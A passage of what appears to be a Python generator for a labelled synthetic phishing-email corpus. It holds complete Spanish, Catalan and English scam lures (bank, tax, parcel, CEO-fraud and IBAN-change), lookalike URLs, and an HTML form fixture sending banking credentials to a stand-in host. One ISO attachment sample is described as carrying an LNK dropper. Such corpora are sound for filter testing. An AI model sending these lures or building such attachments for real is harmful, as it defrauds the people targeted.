         rp="bounces+a8c1f0@eumail.docusign.net", helo="mailfr.eumail.docusign.net", ip="185.166.143.77", auth="pass pass pass",
         dkd="eumail.docusign.net", pol="p=REJECT sp=REJECT",
         hdr=["Reply-To: Immobiliare Gallura <immobiliaregallura.affitti@gmail.com>"],
         subj="Completa con DocuSign: Contratto_locazione_Via_Roma_12_Olbia.pdf",
         body=brand("#1e4ca1", "DocuSign", "Immobiliare Gallura ti ha inviato un documento da esaminare e firmare.", [
             "<b>Immobiliare Gallura</b><br>immobiliaregallura.affitti@gmail.com",
             "Gentile Elisa, come concordato le invio il contratto per l'appartamento di Via Roma. Per bloccare l'immobile la "
             "caparra di 1.200 € va versata entro 24 ore sul conto indicato a pagina 3, altrimenti passiamo al prossimo interessato."],
             ("ESAMINA DOCUMENTO", "https://eu.docusign.net/Signing/EmailStart.aspx?a=" + tok("a27a", 8) + "-" + tok("a27b", 4) + "-"
              + tok("a27c", 4) + "-" + tok("a27d", 12) + "&etti=24&acct=" + tok("a27e", 8) + "&er=" + tok("a27f", 8)), DOCUSIGN_FOOT),
         desc="Rental advance-fee scam delivered through a genuine DocuSign envelope (DocuSign authentication passes, Gmail reply-to) pressing for a 1,200 EUR deposit to the account in the document."),
]

# ---- attacks, Spain and Catalonia

MSGS += [
    dict(slug="es-aeat-devolucion-pages", cat="phishing", rc="movistar", date="2025-05-13T09:26:41+02:00",
         frm=("Agencia Tributaria", "notificaciones@aeat-devoluciones.es"), to="jordi.puig@movistar.es",
         helo="mail.aeat-devoluciones.es", ip="185.225.74.163", auth="pass pass pass",
         subj="Devolución pendiente IRPF ejercicio 2024: 312,47 €",
         body=brand("#8e1b1b", "Agencia Tributaria", "Aviso de devolución", [
             "Estimado/a contribuyente:", "Tras la revisión de su declaración de la Renta 2024 se ha reconocido a su favor una "
             "devolución de <b>312,47 €</b>.", "Para recibir el importe debe verificar los datos de la cuenta bancaria o tarjeta "
             "asociada antes del 20/05/2025. Pasado este plazo la devolución quedará anulada."],
             ("Acceder a la devolución", "https://aeat-devolucion-2025.pages.dev/sede/?nif=" + tok("b1", 9, UPNUM)),
             "Agencia Estatal de Administración Tributaria – Calle Infanta Mercedes 37, 28020 Madrid", lang="es"),
         desc="Agencia Tributaria income-tax refund lure from a lookalike .es domain passing SPF/DKIM/DMARC, linking to a Cloudflare pages.dev card phish."),

    dict(slug="es-aeat-dehu-dropbox-zip", cat="malware", rc="gmail", date="2025-02-18T12:03:09+01:00",
         frm=("Agencia Tributaria - Notificaciones", "administracion@clinicadentalsoler.es"), to="nuria.vila88@gmail.com",
         helo="smtp.clinicadentalsoler.es", rdns="smtp-out.hostalia.com", ip="82.194.68.121", auth="pass pass pass",
         hops=[("[185.107.56.221]", "185.107.56.221", "smtp.clinicadentalsoler.es")],
         subj="Notificación electrónica pendiente - Ref. B25-44871", hdr=["X-Mailer: Microsoft Outlook 16.0"],
         body=brand("#8e1b1b", "Agencia Tributaria", "Tiene una notificación pendiente", [
             "Le informamos de que tiene a su disposición una notificación de la Agencia Estatal de Administración Tributaria en la "
             "Dirección Electrónica Habilitada única (DEHú).", "Referencia: <b>B25-44871</b> – Procedimiento: comprobación limitada.",
             "Dispone de 10 días naturales para acceder a su contenido. Transcurrido dicho plazo se entenderá rechazada."],
             ("Descargar notificación", "https://www.dropbox.com/scl/fi/8kq2r7m1x0v3d9c4b5a6e/Notificacion_AEAT_B25-44871.zip?rlkey="
              + tok("b2", 25, "abcdefghijklmnopqrstuvwxyz0123456789") + "&dl=1"), "Agencia Tributaria", lang="es"),
         desc="Malware: Agencia Tributaria DEHú notification sent from a compromised clinic mailbox (authentication passes) linking to a Dropbox-hosted ZIP with a script downloader."),

    dict(slug="es-dgt-multa-spoof", cat="phishing", rc="outlook", date="2025-03-31T08:44:20+02:00",
         frm=("DGT - Dirección General de Tráfico", "notificaciones@dgt.es"), to="p.sanchez@outlook.es",
         rp="root@srv61.server-hosting-es.net", helo="srv61.server-hosting-es.net", ip="195.58.39.117", auth="none none fail",
         mid="<20250331064420.9A1C3E2F@srv61.server-hosting-es.net>",
         subj="Notificación de sanción de tráfico pendiente: expediente 28-2025-0419773",
         body=brand("#003b71", "DGT", "Multa de tráfico pendiente de pago", [
             "Estimado/a conductor/a:", "Le comunicamos que consta una sanción por exceso de velocidad (A-6, km 18, 82 km/h en "
             "tramo limitado a 60 km/h) con número de expediente <b>28-2025-0419773</b>.",
             "Si abona la multa en los próximos 5 días se beneficiará de una reducción del 50%: <b>50,00 €</b> en lugar de 100,00 €."],
             ("Consultar y pagar", "https://cutt.ly/dgt-expediente-0419773"), "Dirección General de Tráfico – Ministerio del Interior",
             lang="es"),
         desc="Direct spoof of dgt.es from a hosting server (SPF none, no DKIM, DMARC fail) about a speeding fine with a 50% early-payment discount, link via cutt.ly."),

    dict(slug="es-correos-aduanas-wp", cat="phishing", rc="movistar", date="2025-06-04T21:15:37+02:00",
         frm=("Correos", "envios@panaderiaelmolino.es"), to="m.garcia.lopez@telefonica.net", helo="panaderiaelmolino.es",
         rdns="cpanel14.dinahosting.com", ip="82.98.146.53", auth="pass none none",
         mid="<xJ3kQw9PzR7tYv2Bn5Lm8Ud1Fs4Gh6Ac0@panaderiaelmolino.es>",
         hdr=["X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)"],
         subj="Correos: su envío PQ4F6P0712345670108001V está retenido en aduanas",
         body=brand("#ffcd00", "Correos", "Envío retenido", [
             "Hola,", "su envío <b>PQ4F6P0712345670108001V</b> procedente de China ha llegado a nuestro centro de tratamiento "
             "aduanero y está pendiente del pago de los gastos de gestión: <b>1,79 €</b>.",
             "Si no se realiza el pago en 48 horas el envío será devuelto a su origen."],
             ("Pagar y recibir mi envío", "https://panaderiaelmolino.es/wp-content/themes/astra/correos/es/pago.php?envio="
              "PQ4F6P0712345670108001V"), "Sociedad Estatal Correos y Telégrafos, S.A., S.M.E.", lang="es"),
         desc="Correos customs-fee lure sent by PHPMailer from a compromised bakery WordPress site (its SPF passes, no DKIM) linking to a payment kit on the same site."),

    dict(slug="es-seur-workers-redelivery", cat="phishing", rc="gmail", date="2025-11-27T10:31:05+01:00",
         frm=("SEUR", "info@seur-entregas.net"), to="alex.romero.bcn@gmail.com", helo="mail.seur-entregas.net", ip="91.92.246.140",
         auth="pass pass pass", subj="No hemos podido entregar tu paquete – reprograma la entrega",
         body=brand("#0074ba", "SEUR", "Entrega fallida", [
             "Hola,", "hoy hemos intentado entregar tu envío <b>3201 4587 991</b>, pero no había nadie en el domicilio.",
             "Puedes elegir una nueva fecha de entrega o un punto Pickup. Si no lo haces antes de 3 días el envío volverá al "
             "remitente."], ("Reprogramar entrega", "https://seur-entrega.dom-redelivery.workers.dev/?exp=32014587991&s=" + tok("b5", 10)),
             "SEUR S.A. – Calle Gamonal 14, 28031 Madrid", lang="es"),
         desc="SEUR failed-delivery lure from a lookalike .net domain with valid authentication, linking to a Cloudflare workers.dev page."),

    dict(slug="es-mrw-pdf-qr", cat="phishing", rc="outlook", date="2025-08-19T17:48:52+02:00",
         frm=("MRW", "avisos@mrw-envios.com"), to="lucia.navarro@hotmail.es", helo="smtp.mrw-envios.com", ip="147.45.47.82",
         auth="pass none none", subj="MRW: aviso de llegada de su envío 042761",
         body=mixed(plain("Estimado cliente:\n\nAdjuntamos el aviso de llegada de su envío n.º 042761. Para concertar la entrega escanee "
                          "el código QR del documento con su móvil.\n\nAtentamente,\nMRW\n"),
                    att("MRW_Aviso_Entrega_042761.pdf", pdf_qr([
                        "MRW - AVISO DE LLEGADA", "Envio n. 042761 - 1 bulto - 2,3 kg",
                        "Gastos de reexpedicion pendientes: 2,99 EUR", "",
                        "Escanee el codigo QR para pagar y elegir fecha de entrega."],
                        "https://mrw-entregas.top/r/042761?c=" + tok("b6", 10), "Aviso MRW"))),
         desc="Quishing: MRW arrival notice from a lookalike domain with a PDF containing only a QR code to a .top payment page."),

    dict(slug="es-bbva-lookalike-acceso", cat="phishing", rc="movistar", date="2025-01-22T07:36:18+01:00",
         frm=("BBVA", "seguridad@bbva-clientes.es"), to="j.martinez@movistar.es", helo="mail.bbva-clientes.es", ip="194.26.192.88",
         auth="pass pass pass", subj="Hemos detectado un acceso inusual en su Banca Online",
         body=brand("#004481", "BBVA", "Acceso inusual detectado", [
             "Estimado cliente:", "Hemos detectado un inicio de sesión en su Banca Online desde un dispositivo no habitual "
             "(Valencia, Windows 10).", "Por su seguridad hemos limitado temporalmente las operaciones. Verifique su identidad "
             "para restablecer el acceso completo."],
             ("Verificar identidad", "https://bbva-validacion.com/es/particulares/acceso?token=" + tok("b7", 32, ALNUM)),
             "BBVA, S.A. – Plaza de San Nicolás 4, 48005 Bilbao", lang="es"),
         desc="BBVA unusual-sign-in lure from a lookalike domain with full authentication, linking to a lookalike login site."),

    dict(slug="es-caixabank-callback-gmail", cat="phishing", rc="gmail", date="2025-04-08T13:50:27+02:00",
         frm=("CaixaBank Seguridad", "caixabank.alertas.seguridad@gmail.com"), to="montse.riera@gmail.com",
         helo="mail-lj1-f170.google.com", ip="209.85.208.170", auth="pass pass pass", dkd="gmail.com", sel="20230601",
         mid="<CAL4t8Vq2RzX0pNm7kWc9_hYs3E1bJdF5uGa6Kx@mail.gmail.com>",
         subj="Cargo bloqueado en su tarjeta CaixaBank - acción requerida",
         body=gm("Estimado/a cliente:\n\nHemos bloqueado de forma preventiva un cargo de 1.249,00 € en su tarjeta terminada en 8830 "
                 "realizado en APPLE.COM/BILL.\n\nSi usted no ha realizado esta compra, llame cuanto antes a nuestro Departamento de "
                 "Fraude al 910 60 47 22 (atención 24h) para anular el cargo. Tenga a mano su tarjeta y el móvil para la verificación.\n\n"
                 "Si no recibimos su llamada en las próximas 6 horas el cargo se autorizará.\n\nCaixaBank, S.A.\nServicio de Seguridad"),
         desc="Callback scam: CaixaBank fraud-team name on a Gmail account, no link, asking the victim to phone a fake number to cancel a 1,249 EUR card charge."),

    dict(slug="es-santander-html-form", cat="phishing", rc="outlook", date="2025-10-07T11:22:14+02:00",
         frm=("Banco Santander", "no-reply@santander-avisos.com"), to="fernando.gil@outlook.es", helo="mx2.santander-avisos.com",
         ip="45.141.215.63", auth="pass pass pass", subj="Actualización obligatoria de datos - Banco Santander",
         body=mixed(brand("#ec0000", "Santander", "Actualice sus datos", [
             "Estimado cliente:", "En cumplimiento de la normativa de prevención del blanqueo de capitales debe actualizar sus datos "
             "personales.", "Abra el formulario adjunto, complete sus datos y pulse <b>Enviar</b>. Si no lo hace antes de 72 horas "
             "su cuenta quedará restringida."], None, "Banco Santander, S.A.", lang="es"),
             attachment("text/html", "Santander_Formulario_Actualizacion.html", html_form(
                 "Santander – Actualización de datos", "#ec0000", "https://santander-es-clientes.vercel.app/api/submit",
                 ["DNI/NIE", "Clave de acceso", "Teléfono móvil", "Número de tarjeta", "Caducidad", "CVV", "Código SMS"],
                 "Complete todos los campos para mantener su cuenta activa.", "es"))),
         desc="Santander KYC update lure from a lookalike domain with an HTML attachment form posting DNI, online-banking password, card and SMS code to a Vercel endpoint."),

    dict(slug="ca-sabadell-canva-signatura", cat="phishing", rc="gmail", date="2025-09-02T18:09:39+02:00",
         frm=("Banc Sabadell", "bancsabadell.avisos@outlook.com"), to="ricard.font@gmail.com",
         helo="EUR05-AM6-obe.outbound.protection.outlook.com", ip="52.101.82.47", auth="pass pass pass", dkd="outlook.com",
         sel="selector1", mid="<AM9P192MB0932F1E47C2A9D3B8C61E5A0D7B24@AM9P192MB0932.EURP192.PROD.OUTLOOK.COM>",
         subj="La vostra signatura digital ha caducat – renoveu-la avui",
         body=brand("#006dff", "Banc Sabadell", "Signatura digital caducada", [
             "Benvolgut client,", "la vostra signatura digital per autoritzar operacions a Banca a distància ha caducat.",
             "Per continuar fent transferències i pagaments heu de renovar-la avui mateix. El procés dura menys de dos minuts."],
             ("Renovar signatura", "https://www.canva.com/design/DAGk3xQ9ZpM/Yq1vXrT8wL0nB5cE2hJ4aA/view?utm_content=DAGk3xQ9ZpM"
              "&utm_campaign=designshare&utm_medium=link&utm_source=viewer"), "Banc de Sabadell, S.A.", lang="ca"),
         desc="Catalan-language Banc Sabadell expired-signature lure from an Outlook.com freemail account, linking to a genuine Canva design page whose button leads to the phishing site."),

    dict(slug="es-ing-qr-verificacion", cat="phishing", rc="movistar", date="2025-03-19T10:41:56+01:00",
         frm=("ING", "clientes@ing-verificacion.es"), to="elena.ruiz@telefonica.net", helo="mail.ing-verificacion.es",
         ip="185.196.9.214", auth="pass pass pass", subj="Verifique su identidad para seguir usando la app de ING",
         body=related(brand("#ff6200", "ING", "Verificación de identidad", [
             "Hola,", "por la nueva normativa europea necesitamos que confirmes tu identidad desde el móvil.",
             "Escanea el código QR con la cámara de tu teléfono y sigue los pasos. Si no lo haces antes del 26/03 bloquearemos el "
             "acceso a la app."], None, "ING Bank NV, Sucursal en España – Calle Vía de los Poblados 1, 28033 Madrid",
             img_cid="qrcode@ing", lang="es"),
             attachment("image/png", "verificacion.png", files.qr_png("https://ingdirect-id.onrender.com/?c=" + tok("b11", 12)),
                        inline=True, cid="qrcode@ing")),
         desc="Quishing: ING identity-verification lure from a lookalike domain whose only call to action is an inline QR code pointing to a Render-hosted page."),

    dict(slug="es-wallapop-bizum-venta", cat="phishing", rc="gmail", date="2025-07-14T16:27:33+02:00",
         frm=("Wallapop", "pagos@wallapop-envios.com"), to="david.ortega92@gmail.com", helo="smtp.wallapop-envios.com",
         ip="94.156.177.42", auth="pass pass pass", subj="¡Tu producto se ha vendido! Confirma para recibir el pago",
         body=brand("#13c1ac", "wallapop", "¡Enhorabuena, has vendido tu artículo!", [
             "El comprador <b>Sergio M.</b> ha pagado <b>180,00 €</b> por «Bicicleta montaña 29\" Rockrider».",
             "El pago está retenido en Wallapop Protect. Para recibirlo en tu cuenta o por Bizum confirma los datos de tu tarjeta "
             "en las próximas 24 horas.", "Después te enviaremos la etiqueta de envío."],
             ("Recibir el pago", "https://wallapop.envio-seguro-pago.com/item/bicicleta-montana-29-8821?pay=" + tok("b12", 16)),
             "Wallapop S.L. – Avinguda Diagonal 601, 08028 Barcelona", lang="es"),
         desc="Second-hand marketplace scam: fake Wallapop sale confirmation from a lookalike domain asking the seller to enter card details to 'receive' a payment."),

    dict(slug="es-endesa-reembolso", cat="phishing", rc="movistar", date="2025-12-09T08:58:11+01:00",
         frm=("Endesa Energía", "clientes@endesa-reembolsos.com"), to="rosa.pons@movistar.es", helo="out.endesa-reembolsos.com",
         ip="77.91.124.36", auth="pass pass pass", subj="Tiene un reembolso de 96,35 € por cobro duplicado",
         body=brand("#0555fa", "endesa", "Reembolso disponible", [
             "Estimado/a cliente:", "Hemos detectado un cobro duplicado en su factura de luz del mes de noviembre.",
             "Tiene a su disposición un reembolso de <b>96,35 €</b>. Para recibirlo indique la tarjeta en la que desea el abono."],
             ("Solicitar reembolso", "https://reembolso-endesa.duckdns.org/cliente?ref=END" + tok("b14", 8, "0123456789")),
             "Endesa Energía, S.A.U. – Calle Ribera del Loira 60, 28042 Madrid", lang="es"),
         desc="Endesa duplicate-charge refund lure from a lookalike domain with valid authentication, linking to a DuckDNS dynamic-DNS host."),
]

ICS = ics_invite("040000008200E00074C5B7101A82E00800000000" + tok("b23", 32).upper(), "facturacion@grupologisticoebro-es.com",
                 "administracio@transportsbages.cat", "20250924T100000", "20250924T103000",
                 "Revisión facturas pendientes Q3 - Grupo Logístico Ebro",
                 "Buenos días,\nConvocamos una breve reunión para revisar las facturas pendientes del tercer trimestre.\n"
                 "Antes de la reunión, revise el documento compartido:\n"
                 "https://ebro-facturas.sharepoint-docs.com/sites/facturacion/Q3/Facturas_pendientes.xlsx?web=1\n\n"
                 "Unirse a la reunión de Microsoft Teams:\nhttps://teams-microsoft-meeting.com/l/meetup-join/19%3ameeting_"
                 + tok("b23m", 40, ALNUM) + "%40thread.v2/0", "Reunión de Microsoft Teams")

MSGS += [
    dict(slug="es-naturgy-factura-iso-lnk", cat="malware", rc="m365", date="2025-02-05T09:47:22+01:00",
         frm=("Naturgy Clientes", "facturacion@naturgy-clientes.com"), to=("Transports Bages", "administracio@transportsbages.cat"),
         helo="mail.naturgy-clientes.com", ip="179.43.180.92", auth="pass none none",
         subj="Factura electrónica Naturgy FE25-0091873 - vencimiento 15/02/2025",
         body=mixed(plain("Estimado cliente:\n\nAdjuntamos su factura electrónica FE25-0091873 correspondiente al suministro de gas y "
                          "electricidad de enero por importe de 1.284,16 EUR.\n\nPara visualizarla abra el archivo adjunto.\n\n"
                          "Atentamente,\nNaturgy Iberia, S.A.\n"),
                    att("Factura_Naturgy_FE25-0091873.iso", files.iso_image([
                        ("Factura_Naturgy_FE25-0091873.pdf.lnk", lnk_dropper()),
                        ("Factura.pdf", pdf(["Naturgy - Factura FE25-0091873"], "Factura"))], "FACTURA"),
                        "application/x-iso9660-image")),
         desc="Malware: fake Naturgy e-invoice to a haulier's Microsoft 365 tenant with an ISO disc image holding a .pdf.lnk shortcut that runs hidden PowerShell."),

    dict(slug="es-movistar-spoof-shortener", cat="phishing", rc="movistar", date="2025-06-16T19:33:04+02:00",
         frm=("Movistar", "facturacion@movistar.es"), to="carmen.soto@movistar.es", rp="noreply@mx3.envios-masivos.xyz",
         helo="mx3.envios-masivos.xyz", ip="103.156.91.18", auth="pass none fail", mid="<6650d3b1e7f2a@mx3.envios-masivos.xyz>",
         subj="Su factura de Movistar no ha podido ser cargada",
         body=brand("#019df4", "movistar", "Problema con el pago de su factura", [
             "Estimado cliente:", "No hemos podido cargar en su cuenta la factura de junio por importe de <b>54,90 €</b>.",
             "Para evitar la suspensión de sus servicios de fibra, móvil y televisión, actualice su método de pago hoy mismo."],
             ("Actualizar método de pago", "https://is.gd/MvFact25"), "Telefónica de España, S.A.U. – Ronda de la Comunicación s/n, 28050 Madrid",
             lang="es"),
         desc="Spoof of movistar.es sent from a bulk-mail host (its own SPF passes but DMARC fails on alignment) to a Movistar mailbox about a failed bill payment, link via is.gd."),

    dict(slug="es-cita-previa-seg-social", cat="phishing", rc="gmail", date="2025-10-14T12:12:47+02:00",
         frm=("Seguridad Social - Cita Previa", "citaprevia@seg-social-citas.es"), to="y.benali@gmail.com",
         helo="mail.seg-social-citas.es", ip="193.233.48.97", auth="pass pass pass",
         subj="Confirmación de cita previa – requiere validación",
         body=brand("#0a4a85", "Seguridad Social", "Confirme su cita previa", [
             "Se ha reservado una cita en el Centro de Atención e Información de la Seguridad Social (CAISS) de Sant Adrià de "
             "Besòs para el trámite <b>Prestación por nacimiento y cuidado de menor</b>.",
             "Para no perder la cita debe validarla en las próximas 24 horas identificándose con Cl@ve PIN o con su tarjeta "
             "bancaria (se realizará un cargo de verificación de 0,00 €)."],
             ("Validar cita", "https://citaprevia-seg-social.vercel.app/confirmar?cita=CAISS-" + tok("b17", 8, UPNUM)),
             "Instituto Nacional de la Seguridad Social", lang="es"),
         desc="Fake Seguridad Social appointment (cita previa) confirmation from a lookalike domain asking for Cl@ve or card details on a Vercel page."),

    dict(slug="ca-ceo-transferencia-outlook", cat="phishing", rc="m365", date="2025-05-29T08:51:16+02:00",
         frm=("Josep Bages", "josep.bages.direccio@outlook.com"), to=("Marta Soler", "marta.soler@transportsbages.cat"),
         helo="EUR02-VI1-obe.outbound.protection.outlook.com", ip="52.101.65.92", auth="pass pass pass", dkd="outlook.com",
         sel="selector1", mid="<VI1P190MB0745A2C3E9B1D74F68E2C1A9B3F52@VI1P190MB0745.EURP190.PROD.OUTLOOK.COM>",
         subj="Transferència confidencial",
         body=ol("Hola Marta,\n\nEstàs disponible aquest matí? Necessito que facis una transferència urgent avui a un proveïdor nou "
                 "per a l'operació de Perpinyà.\nÉs confidencial, no en parlis amb ningú de l'oficina fins que ho anunciem la "
                 "setmana que ve.\n\nDigues-me quan puguis i t'envio les dades bancàries. Estic en una reunió i no puc agafar el "
                 "telèfon.\n\nGràcies,\nJosep", lang="CA"),
         desc="Catalan CEO fraud: the managing director's name on an Outlook.com freemail address asks the bookkeeper for an urgent confidential transfer; no link."),

    dict(slug="es-iban-compromised-supplier-thread", cat="phishing", rc="gws", date="2025-03-06T13:08:29+01:00",
         frm=("Raúl Ibáñez", "raul.ibanez@embalajesdelturia.es"), to=("Amparo Vidal", "amparo.vidal@ceramicaslevante.es"),
         helo="mail-sor-f41.google.com", ip="209.85.220.41", auth="pass pass pass", sel="google",
         mid="<CAF3kYw7-Rz2Lq9Xv0Tn8pMh4Ug6Ea1Jc5Bd@mail.gmail.com>", subj="Re: Pedido 4471 - palets y film estirable",
         hdr=["In-Reply-To: <CAB9pQe2m@ceramicaslevante.es>", "References: <CAF3kYw1@embalajesdelturia.es> <CAB9pQe2m@ceramicaslevante.es>"],
         body=mixed(gm("Hola Amparo,\n\nte confirmo que la mercancía del pedido 4471 sale el jueves por la mañana.\n\n"
                       "Aprovecho para comentarte que a partir de este mes cobramos en nuestra nueva cuenta, por una reorganización "
                       "con la entidad anterior. Las facturas de febrero (F25-0211 y F25-0230, total 8.746,30 €) hay que pagarlas ya "
                       "aquí:\n\nES76 0081 7302 1100 0184 9263\nBanco Sabadell\n\nTe adjunto el certificado de titularidad. "
                       "Por favor, actualizadlo en vuestro sistema y me confirmas.\n\nUn saludo,\nRaúl Ibáñez\n"
                       "Embalajes del Turia, S.L.\n\nEl mié, 5 mar 2025 a las 17:40, Amparo Vidal (<amparo.vidal@ceramicaslevante.es>) "
                       "escribió:\n> Hola Raúl, ¿nos confirmas fecha de salida del pedido 4471? Gracias.\n> Amparo"),
                    att("Certificado_titularidad_cuenta.pdf", pdf([
                        "CERTIFICADO DE TITULARIDAD DE CUENTA", "Titular: EMBALAJES DEL TURIA SL - CIF B46981234",
                        "IBAN: ES76 0081 7302 1100 0184 9263", "Fecha: 03/03/2025"], "Certificado"))),
         desc="Bank-detail change fraud from a compromised supplier Google Workspace mailbox (all authentication passes) replying in a real order thread with a new IBAN and a fake ownership certificate."),

    dict(slug="es-onedrive-lookalike-gestoria", cat="phishing", rc="m365", date="2025-10-16T15:24:38+02:00",
         frm=("Laura Alcaraz", "laura@gestoria-alcaraz.es"), to="administracio@transportsbages.cat",
         helo="EUR05-DB8-obe.outbound.protection.outlook.com", ip="52.101.73.40", auth="pass pass pass",
         dkd="gestoriaalcaraz.onmicrosoft.com", sel="selector1-gestoriaalcaraz-onmicrosoft-com",
         mid="<DB9PR02MB7211C4A8E2F13B9D5A70E6C2B18D4@DB9PR02MB7211.eurprd02.prod.outlook.com>",
         subj="Laura Alcaraz ha compartido \"Modelo 303 - 3T 2025 - Transports Bages\" contigo",
         body=brand("#0364b8", "OneDrive", "Laura Alcaraz ha compartido un archivo contigo", [
             "<i>\"Hola, os dejo el modelo 303 del tercer trimestre para revisar antes de presentarlo. Saludos.\"</i>",
             "📄 <b>Modelo 303 - 3T 2025 - Transports Bages.pdf</b>", "Este vínculo solo funcionará para los destinatarios directos "
             "de este mensaje."], ("Abrir", "https://onedrive-compartido.b-cdn.net/es/view.html#administracio@transportsbages.cat"),
             "Declaración de privacidad de Microsoft – Microsoft Corporation, One Microsoft Way, Redmond, WA 98052", lang="es"),
         desc="OneDrive sharing look-alike sent from a tax advisor's compromised Microsoft 365 mailbox (authentication passes) with the 'Open' button going to a Bunny CDN login page prefilled with the victim's address."),

    dict(slug="es-docusign-lookalike-nomina", cat="phishing", rc="gws", date="2025-01-30T10:02:44+01:00",
         frm=("DocuSign", "dse@docusign-esign.net"), to=("Amparo Vidal", "amparo.vidal@ceramicaslevante.es"),
         helo="mail.docusign-esign.net", ip="38.180.23.151", auth="pass pass pass",
         subj="Amparo, tiene un documento pendiente: Revisión_Salarial_2025_Firmar.pdf",
         body=brand("#1e4ca1", "DocuSign", "Recursos Humanos le ha enviado un documento para revisar y firmar", [
             "<b>Recursos Humanos – Cerámicas Levante</b>", "Por favor, revise y firme la actualización salarial 2025 antes del "
             "viernes.", "Este documento caduca en 48 horas."],
             ("REVISAR DOCUMENTO", "https://docsign-review.azurewebsites.net/?e=" + base64.b64encode(b"amparo.vidal@ceramicaslevante.es").decode()),
             "No comparta este correo. Este mensaje contiene un enlace seguro a DocuSign.", lang="es"),
         desc="DocuSign look-alike (lookalike domain, valid authentication) about a salary review, linking to an Azure Web Apps credential page with the victim's address base64-encoded."),

    dict(slug="es-payroll-diversion-gmail", cat="phishing", rc="gws", date="2025-11-20T09:17:03+01:00",
         frm=("Sergio Almela", "sergio.almela.cl@gmail.com"), to="rrhh@ceramicaslevante.es", helo="mail-pj1-f44.google.com",
         ip="209.85.216.44", auth="pass pass pass", dkd="gmail.com", sel="20230601",
         mid="<CAPx7Qe1-Wm4Rz8Ln2Ty0Ks6Dh3Fb9Vc5Ua@mail.gmail.com>", subj="Cambio de cuenta para la nómina",
         body=gm("Hola,\n\nHe cambiado de banco y quería actualizar la cuenta donde recibo la nómina antes del cierre de este mes.\n"
                 "¿Me decís qué necesitáis que os envíe? Os escribo desde el correo personal porque no me funciona el del trabajo "
                 "desde el móvil.\n\nGracias,\nSergio Almela\nAlmacén"),
         desc="Payroll diversion: an employee's name on a Gmail address asks HR to change the salary account before month end; no link or attachment."),

    dict(slug="es-teams-ics-invite", cat="phishing", rc="m365", date="2025-09-22T09:15:00+02:00",
         frm=("Facturación - Grupo Logístico Ebro", "facturacion@grupologisticoebro-es.com"),
         to="administracio@transportsbages.cat", helo="mail.grupologisticoebro-es.com", ip="88.214.26.63", auth="pass pass pass",
         subj="Invitación: Revisión facturas pendientes Q3 - Grupo Logístico Ebro",
         body=Multi("alternative", "_000_cal_" + tok("b23alt", 20), [
             text("Buenos días,\n\nConvocamos una breve reunión para revisar las facturas pendientes del tercer trimestre.\n"
                  "Antes de la reunión, revise el documento compartido:\n"
                  "https://ebro-facturas.sharepoint-docs.com/sites/facturacion/Q3/Facturas_pendientes.xlsx?web=1\n\n"
                  "Reunión de Microsoft Teams\n"),
             text('<html><body><p>Buenos días,</p><p>Convocamos una breve reunión para revisar las facturas pendientes del tercer '
                  'trimestre.</p><p>Antes de la reunión, revise el documento compartido: <a href="https://ebro-facturas.sharepoint-docs.com/'
                  'sites/facturacion/Q3/Facturas_pendientes.xlsx?web=1">Facturas_pendientes.xlsx</a></p><hr><p><b>Reunión de '
                  'Microsoft Teams</b><br><a href="https://teams-microsoft-meeting.com/l/meetup-join/19%3ameeting_' + tok("b23m", 40, ALNUM)
                  + '%40thread.v2/0">Unirse a la reunión ahora</a></p></body></html>\n', "html"),
             Leaf("text/calendar", ICS, "base64", '; charset="utf-8"; method=REQUEST')]),
         desc="Calendar-invite phish: a Teams meeting request from a lookalike logistics domain whose description links to a fake SharePoint spreadsheet and a fake Teams join page."),

    dict(slug="es-paypal-invoice-callback", cat="phishing", rc="gmail", date="2025-08-26T14:38:20+02:00",
         frm=("PayPal", "service@paypal.com"), to="sergi.mas@gmail.com", rp="paypal@mail.paypal.com", helo="mx0.slc.paypal.com",
         rdns="mx0.slc.paypal.com", ip="173.0.84.226", auth="pass pass pass", sel="pp-dkim1",
         subj="Factura de Norton Seguridad Digital (0089)",
         body=brand("#003087", "PayPal", "Norton Seguridad Digital le ha enviado una factura", [
             "Importe adeudado: <b>399,99 EUR</b> – Vencimiento: al recibirla",
             "<b>Nota del vendedor:</b> Su suscripción anual de Norton 360 se renovará hoy por 399,99 EUR. Si no ha autorizado esta "
             "renovación llame a nuestro servicio de facturación al +34 900 83 14 27 en las próximas 24 horas para cancelarla y "
             "recibir el reembolso."],
             ("Ver y pagar factura", "https://www.paypal.com/invoice/p/#INV2-7XKQ-" + tok("b24", 4, UPNUM) + "-" + tok("b24b", 4, UPNUM)
              + "-" + tok("b24c", 4, UPNUM)), "PayPal (Europe) S.à r.l. et Cie, S.C.A.", lang="es"),
         desc="Callback scam through a genuine PayPal invoice (PayPal authentication passes) whose seller note tells the victim to phone a fake billing number to cancel a 399.99 EUR renewal."),

    dict(slug="en-advance-fee-next-of-kin", cat="phishing", rc="libero", date="2025-12-15T03:22:58+01:00",
         frm=("Barr. Edward Kwame Mensah", "ekmensah.chambers@gmail.com"), to="giovanni.atzori@libero.it",
         helo="mail-oo1-f65.google.com", ip="209.85.161.65", auth="pass pass pass", dkd="gmail.com", sel="20230601",
         mid="<CAN2fW8-kQz5Xm1Rv7Lp3_Yt9Hs0Bc4Ja6Ud@mail.gmail.com>", subj="Re: Estate of late Mr. Roberto Atzori",
         hdr=["Reply-To: barr.ekmensah@yandex.com"],
         body=plain("Dear Giovanni Atzori,\n\nI am Barrister Edward Kwame Mensah, personal attorney to the late Mr. Roberto Atzori, a "
                    "mining engineer who lived and worked in Accra, Ghana until his death in a road accident in 2021.\n\n"
                    "My late client left the sum of US$ 8,700,000.00 (Eight Million Seven Hundred Thousand United States Dollars) on "
                    "deposit with a bank here. Since then I have made several inquiries to locate any of his relatives without "
                    "success. As you share the same surname, I am contacting you to stand as his next of kin so that the funds can be "
                    "released to you, and we share the proceeds 50/50.\n\nThis transaction is 100% risk free and legal. Kindly reply "
                    "with your full name, telephone number and address so that I can begin the paperwork with the bank.\n\n"
                    "Yours faithfully,\nBarr. Edward Kwame Mensah (Esq.)\nMensah & Associates Legal Chambers, Accra"),
         desc="Classic English advance-fee next-of-kin letter to an Italian Libero user from a Gmail account with a Yandex reply-to."),
]

# ---- legitimate, Italy

FATTURAPA = ('<?xml version="1.0" encoding="UTF-8"?>\n<p:FatturaElettronica versione="FPR12" '
             'xmlns:p="http://ivaservizi.agenziaentrate.gov.it/docs/xsd/fatture/v1.2">\n<FatturaElettronicaHeader>\n'
             '<DatiTrasmissione><IdTrasmittente><IdPaese>IT</IdPaese><IdCodice>02231450925</IdCodice></IdTrasmittente>'
